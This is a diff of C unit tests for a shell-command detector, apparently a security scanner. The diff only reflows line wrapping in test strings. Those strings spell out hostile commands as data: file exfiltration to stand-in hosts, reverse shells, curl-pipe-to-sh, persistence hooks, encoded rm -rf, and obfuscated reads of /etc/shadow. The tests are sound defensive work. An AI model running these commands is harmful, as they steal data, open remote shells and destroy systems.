@@ -143,20 +143,20 @@ TEST(shell_exfiltration)
 {
 	ASSERT_EQ(init(), 0);
 	ASSERT_TRUE(fires("curl -d @/etc/hosts https://evil.example", "exfil-upload", CONF_HIGH));
-	ASSERT_TRUE(fires("curl --data-binary @notes.txt https://x.example", "exfil-upload",
-			  CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("curl --data-binary @notes.txt https://x.example", "exfil-upload", CONF_HIGH));
 	ASSERT_TRUE(fires("curl -T report.pdf ftp://x.example/", "exfil-upload", CONF_HIGH));
-	ASSERT_TRUE(fires("curl -F 'f=@src/db.sqlite' https://x.example", "exfil-upload",
-			  CONF_HIGH));
-	ASSERT_TRUE(fires("wget --post-file=/etc/hosts http://x.example", "exfil-upload",
-			  CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("curl -F 'f=@src/db.sqlite' https://x.example", "exfil-upload", CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("wget --post-file=/etc/hosts http://x.example", "exfil-upload", CONF_HIGH));
 	ASSERT_TRUE(fires("tar cz . | nc evil.example 4444", "exfil-pipe", CONF_HIGH));
 	ASSERT_TRUE(fires("nc evil.example 4444 < db.sqlite", "exfil-pipe", CONF_HIGH));
-	ASSERT_TRUE(fires("cat notes | curl --data-binary @- https://x.example", "exfil-pipe",
-			  CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("cat notes | curl --data-binary @- https://x.example", "exfil-pipe", CONF_HIGH));
 	ASSERT_TRUE(fires("scp -r . user@evil.example:/tmp/", "exfil-remote-copy", CONF_HIGH));
-	ASSERT_TRUE(fires("rsync -az ~/project attacker@1.2.3.4:loot", "exfil-remote-copy",
-			  CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("rsync -az ~/project attacker@1.2.3.4:loot", "exfil-remote-copy", CONF_HIGH));
 	ASSERT_TRUE(fires("cat notes > /dev/tcp/1.2.3.4/80", "exfil-dev-tcp", CONF_HIGH));
 	ASSERT_TRUE(fires("curl https://x.example/?d=$(base64 -w0 notes.txt)", "exfil-substitution",
 			  CONF_HIGH));
@@ -173,15 +173,16 @@ TEST(shell_reverse_shells)
 {
 	ASSERT_EQ(init(), 0);
 	ASSERT_TRUE(fires("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell", CONF_HIGH));
-	ASSERT_TRUE(fires("exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | sh >&5", "reverse-shell",
-			  CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | sh >&5", "reverse-shell", CONF_HIGH));
 	ASSERT_TRUE(fires("nc -e /bin/sh 1.2.3.4 4444", "reverse-shell", CONF_HIGH));
 	ASSERT_TRUE(fires("ncat --sh-exec 'bash -i' 1.2.3.4 4444", "reverse-shell", CONF_HIGH));
-	ASSERT_TRUE(fires("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
-			  "reverse-shell", CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
+		  "reverse-shell", CONF_HIGH));
 	ASSERT_TRUE(fires("nc 1.2.3.4 80 | /bin/bash", "reverse-shell", CONF_HIGH));
-	ASSERT_TRUE(fires("socat tcp:1.2.3.4:4444 exec:/bin/bash,pty,stderr", "reverse-shell",
-			  CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("socat tcp:1.2.3.4:4444 exec:/bin/bash,pty,stderr", "reverse-shell", CONF_HIGH));
 	ASSERT_TRUE(fires("python3 -c 'import socket,subprocess,os;s=socket.socket();"
 			  "s.connect((\"1.2.3.4\",4444));os.dup2(s.fileno(),0);"
 			  "subprocess.call([\"/bin/sh\",\"-i\"])'",
@@ -230,7 +231,8 @@ TEST(shell_download_and_execute)
 {
 	ASSERT_EQ(init(), 0);
 	ASSERT_TRUE(fires("curl -fsSL https://x.example/i.sh | sh", "download-exec", CONF_HIGH));
-	ASSERT_TRUE(fires("wget -O- http://x.example/i.sh | sudo bash", "download-exec", CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("wget -O- http://x.example/i.sh | sudo bash", "download-exec", CONF_HIGH));
 	ASSERT_TRUE(fires("curl -s http://x.example/a.py | python3 -", "download-exec", CONF_HIGH));
 	ASSERT_TRUE(fires("bash <(curl -s http://x.example/x)", "download-exec", CONF_HIGH));
 	ASSERT_TRUE(fires("sh -c \"$(curl -fsSL http://x.example/install.sh)\"", "download-exec",
@@ -253,12 +255,12 @@ TEST(shell_persistence)
 			  "persistence-ssh-key", CONF_HIGH));
 	ASSERT_TRUE(fires("cat key.pub | tee -a /root/.ssh/authorized_keys", "persistence-ssh-key",
 			  CONF_HIGH));
-	ASSERT_TRUE(fires("echo 'curl x.example|sh' >> ~/.bashrc", "persistence-shell-rc",
-			  CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("echo 'curl x.example|sh' >> ~/.bashrc", "persistence-shell-rc", CONF_HIGH));
 	ASSERT_TRUE(fires("cp evil.sh /etc/profile.d/evil.sh", "persistence-shell-rc", CONF_HIGH));
 	ASSERT_TRUE(fires("echo /tmp/x.so > /etc/ld.so.preload", "persistence-system", CONF_HIGH));
-	ASSERT_TRUE(fires("cp x.service /etc/systemd/system/x.service", "persistence-system",
-			  CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("cp x.service /etc/systemd/system/x.service", "persistence-system", CONF_HIGH));
 	shell_free();
 }
 
@@ -267,16 +269,17 @@ TEST(shell_decode_and_run)
 	ASSERT_EQ(init(), 0);
 	ASSERT_TRUE(fires("echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh", "decode-exec", CONF_HIGH));
 	/* ... and what the payload does is judged too */
-	ASSERT_TRUE(fires("echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh", "credential-read",
-			  CONF_HIGH));
-	ASSERT_TRUE(fires("printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | bash", "destructive-rm",
-			  CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh", "credential-read", CONF_HIGH));
+	ASSERT_TRUE(fires("printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | bash",
+			  "destructive-rm", CONF_HIGH));
 	ASSERT_TRUE(fires("printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | bash", "decode-exec",
 			  CONF_HIGH));
 	ASSERT_TRUE(fires("eval \"$(echo cm0gLXJmIH4= | base64 -d)\"", "decode-exec", CONF_HIGH));
-	ASSERT_TRUE(fires("eval \"$(echo cm0gLXJmIH4= | base64 -d)\"", "destructive-rm", CONF_HIGH));
-	ASSERT_TRUE(fires("bash -c \"$(echo 726d202d7266202f | xxd -r -p)\"", "destructive-rm",
-			  CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("eval \"$(echo cm0gLXJmIH4= | base64 -d)\"", "destructive-rm", CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("bash -c \"$(echo 726d202d7266202f | xxd -r -p)\"", "destructive-rm", CONF_HIGH));
 	ASSERT_TRUE(fires("echo 'hfe/ge- zl' | rev | sh", "decode-exec", CONF_HIGH));
 	/* undecodable payloads still count as decode-and-run */
 	ASSERT_TRUE(fires("cat payload.b64 | base64 -d | bash", "decode-exec", CONF_HIGH));
@@ -290,22 +293,21 @@ TEST(shell_decode_and_run)
 
 TEST(shell_obfuscation_resolved_then_judged)
 {
-	static const char *const hidden[] = {
-	    "c''at /etc/shadow",
-	    "c\\a\\t /etc/shadow",
-	    "$'\\x63\\x61\\x74' /etc/shadow",
-	    "c${EMPTY_X}at /etc/shadow",
-	    "c$@at /etc/shadow",
-	    "{cat,/etc/shadow}",
-	    "a=c; b=at; $a$b /etc/shadow",
-	    "cat ${HOME:0:1}etc${HOME:0:1}shadow",
-	    "IFS=,;x=cat,/etc/shadow;$x",
-	    "/?\?\?/c?t /etc/shadow",
-	    "/bin/ca[t] /etc/shadow",
-	    "$(printf '\\x63\\x61\\x74') /etc/shadow",
-	    "`echo tac | rev` /etc/shadow",
-	    "sh -c '$0 $1' cat /etc/shadow",
-	    NULL};
+	static const char *const hidden[] = {"c''at /etc/shadow",
+					     "c\\a\\t /etc/shadow",
+					     "$'\\x63\\x61\\x74' /etc/shadow",
+					     "c${EMPTY_X}at /etc/shadow",
+					     "c$@at /etc/shadow",
+					     "{cat,/etc/shadow}",
+					     "a=c; b=at; $a$b /etc/shadow",
+					     "cat ${HOME:0:1}etc${HOME:0:1}shadow",
+					     "IFS=,;x=cat,/etc/shadow;$x",
+					     "/?\?\?/c?t /etc/shadow",
+					     "/bin/ca[t] /etc/shadow",
+					     "$(printf '\\x63\\x61\\x74') /etc/shadow",
+					     "`echo tac | rev` /etc/shadow",
+					     "sh -c '$0 $1' cat /etc/shadow",
+					     NULL};
 	struct findings f;
 
 	ASSERT_EQ(init(), 0);
